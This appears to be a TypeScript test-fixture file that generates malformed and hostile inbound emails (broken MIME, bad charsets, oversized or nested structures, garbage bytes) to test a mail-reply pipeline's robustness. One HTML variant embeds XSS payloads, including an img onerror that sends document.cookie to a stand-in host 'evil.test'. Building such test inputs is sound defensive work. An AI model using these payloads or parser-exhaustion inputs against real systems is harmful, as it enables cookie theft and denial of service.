/**
 * Malformed and hostile inbound messages: broken MIME, bad and unknown charsets, HTML with
 * scripts, absurd headers. Each builder takes a variant number so a batch of many can be made
 * from a few kinds without sending the very same bytes twice.
 */
import { randomUUID } from 'node:crypto';

export interface HostileMessage {
  kind: string;
  raw: Buffer;
}

interface Context {
  /** A valid reply-to address with a token, so some hostile messages reach the later stages. */
  tokenAddress: string;
  /** The address allowed to answer that token. */
  sender: string;
}

const id = () => `<${randomUUID()}@hostile.test>`;

function lines(...parts: string[]): Buffer {
  return Buffer.from(parts.join('\r\n'), 'latin1');
}

function headers(
  context: Context,
  variant: number,
  extra: string[] = [],
  withToken = variant % 2 === 0,
): string[] {
  return [
    `From: ${withToken ? context.sender : `stranger${variant}@hostile.test`}`,
    `To: ${withToken ? context.tokenAddress : 'replies@corp.test'}`,
    `Subject: Re: hostile ${variant}`,
    `Message-ID: ${id()}`,
    'MIME-Version: 1.0',
    ...extra,
  ];
}

const KINDS: Array<(context: Context, variant: number) => Buffer> = [
  // Multipart without a boundary parameter.
  (c, v) =>
    lines(
      ...headers(c, v, ['Content-Type: multipart/mixed']),
      '',
      '--x',
      'Content-Type: text/plain',
      '',
      'lost',
      '--x--',
    ),
  // Closing boundary never comes.
  (c, v) =>
    lines(
      ...headers(c, v, ['Content-Type: multipart/alternative; boundary="b"']),
      '',
      '--b',
      'Content-Type: text/plain',
      '',
      `unterminated ${v}`,
    ),
  // Declared boundary never appears at all.
  (c, v) =>
    lines(
      ...headers(c, v, ['Content-Type: multipart/mixed; boundary="nowhere"']),
      '',
      'just text, no parts',
    ),
  // Multipart nested 300 levels deep.
  (c, v) => {
    const depth = 300;
    const open = Array.from(
      { length: depth },
      (_, i) => `--l${i}\r\nContent-Type: multipart/mixed; boundary="l${i + 1}"\r\n`,
    ).join('\r\n');
    const close = Array.from({ length: depth }, (_, i) => `--l${depth - 1 - i}--`).join('\r\n');
    return lines(
      ...headers(c, v, ['Content-Type: multipart/mixed; boundary="l0"']),
      '',
      open,
      `--l${depth}`,
      'Content-Type: text/plain',
      '',
      'deep',
      `--l${depth}--`,
      close,
    );
  },
  // Base64 that is not base64.
  (c, v) =>
    lines(
      ...headers(c, v, [
        'Content-Type: text/plain; charset=utf-8',
        'Content-Transfer-Encoding: base64',
      ]),
      '',
      '!!!@@@###$$$ not base64 at all ===',
      `%%%${v}`,
    ),
  // Broken quoted-printable.
  (c, v) =>
    lines(
      ...headers(c, v, [
        'Content-Type: text/plain; charset=utf-8',
        'Content-Transfer-Encoding: quoted-printable',
      ]),
      '',
      `Broken =ZZ escapes =\r\n=E2=82 half a euro ${v}`,
    ),
  // Unknown charset.
  (c, v) =>
    lines(
      ...headers(c, v, ['Content-Type: text/plain; charset="x-no-such-charset"']),
      '',
      `Unknown charset reply ${v}`,
    ),
  // Declared UTF-8, invalid bytes.
  (c, v) =>
    Buffer.concat([
      lines(...headers(c, v, ['Content-Type: text/plain; charset=utf-8']), '', ''),
      Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0x41 + (v % 20)]),
    ]),
  // UTF-7 and encoded words with a bogus charset in Subject and From.
  (c, v) =>
    lines(
      `From: =?x-bogus?B?${Buffer.from('Évé').toString('base64')}?= <${c.sender}>`,
      `To: ${c.tokenAddress}`,
      `Subject: =?x-bogus?Q?=FF=FE_weird_${v}?= =?utf-8?B?invalid***?=`,
      `Message-ID: ${id()}`,
      'Content-Type: text/plain; charset=utf-7',
      '',
      `Hi +AGEAYgBj- utf-7 ${v}`,
    ),
  // ISO-2022-JP with broken escape sequences.
  (c, v) =>
    lines(
      ...headers(c, v, ['Content-Type: text/plain; charset=ISO-2022-JP']),
      '',
      `\x1b$B\x1b(J\x1b$@broken ${v}\x1b`,
    ),
  // HTML with scripts, event handlers, iframes and a huge style block.
  (c, v) =>
    lines(
      ...headers(c, v, ['Content-Type: text/html; charset=utf-8']),
      '',
      `<html><head><style>${'p{color:red}'.repeat(2000)}</style><script>alert(${v})</script></head><body>`,
      `<img src=x onerror="fetch('https://evil.test/'+document.cookie)"><iframe src="javascript:alert(1)"></iframe>`,
      `<p>Hostile html ${v}</p><script>while(true){}</script></body></html>`,
    ),
  // Ten thousand nested divs, never closed.
  (c, v) =>
    lines(
      ...headers(c, v, ['Content-Type: text/html; charset=utf-8']),
      '',
      `${'<div>'.repeat(10_000)}nested ${v}`,
    ),
  // No headers at all, only a body.
  (_c, v) => lines('', `headerless body ${v}`),
  // Headers only, no body, no blank line.
  (c, v) => lines(...headers(c, v)),
  // A header line without a colon and NUL bytes in headers.
  (c, v) =>
    lines(...headers(c, v, ['This is not a header', `X-Nul: a\0b\0c${v}`]), '', 'nul headers'),
  // A single 200 KB header line.
  (c, v) => lines(...headers(c, v, [`X-Long: ${'a'.repeat(200_000)}`]), '', `long header ${v}`),
  // Five thousand headers.
  (c, v) =>
    lines(
      ...headers(
        c,
        v,
        Array.from({ length: 5000 }, (_, i) => `X-H${i}: ${i}`),
      ),
      '',
      `many headers ${v}`,
    ),
  // Hundreds of plus-tagged recipients and an endless References chain.
  (c, v) =>
    lines(
      `From: ${c.sender}`,
      `To: ${Array.from({ length: 500 }, (_, i) => `replies+${String(i).padStart(26, 'a').slice(0, 26)}@corp.test`).join(', ')}`,
      `References: ${Array.from({ length: 3000 }, (_, i) => `<r${i}@catalog.test>`).join(' ')}`,
      `Subject: Re: many ${v}`,
      `Message-ID: ${id()}`,
      '',
      `Token storm ${v}`,
    ),
  // Bare LF line endings and a lone CR.
  (c, v) =>
    Buffer.from(
      [...headers(c, v, ['Content-Type: text/plain']), '', `lf only ${v}\rcr\n`].join('\n'),
      'latin1',
    ),
  // Garbage bytes from start to end.
  (_c, v) => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 31 + v * 7) % 256)),
  // A forged delivery report with a message/rfc822 part inside.
  (c, v) =>
    lines(
      ...headers(c, v, [
        'Content-Type: multipart/report; report-type=delivery-status; boundary="r"',
      ]),
      '',
      '--r',
      'Content-Type: message/rfc822',
      '',
      `From: x@y\r\nSubject: inner ${v}\r\n\r\ninner`,
      '--r--',
    ),
];

export const HOSTILE_KINDS = KINDS.length;

/** `count` hostile messages cycling through every kind. */
export function hostileMessages(count: number, context: Context): HostileMessage[] {
  return Array.from({ length: count }, (_, index) => {
    const kind = index % KINDS.length;
    return {
      kind: `kind-${kind}`,
      raw: KINDS[kind](context, Math.floor(index / KINDS.length) * KINDS.length + kind),
    };
  });
}

/** A plain message of at least `bytes` (base64 attachment), as a big scanned document would be. */
export function hugeMessage(bytes: number, context: Context): Buffer {
  const chunk =
    'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3\r\n';
  const repeat = Math.ceil(bytes / chunk.length);
  return Buffer.concat([
    lines(
      `From: ${context.sender}`,
      `To: ${context.tokenAddress}`,
      'Subject: Re: the full export',
      `Message-ID: ${id()}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="big"',
      '',
      '--big',
      'Content-Type: text/plain',
      '',
      'Attached.',
      '--big',
      'Content-Type: application/octet-stream',
      'Content-Transfer-Encoding: base64',
      '',
      '',
    ),
    Buffer.from(chunk.repeat(repeat), 'latin1'),
    Buffer.from('--big--\r\n', 'latin1'),
  ]);
}
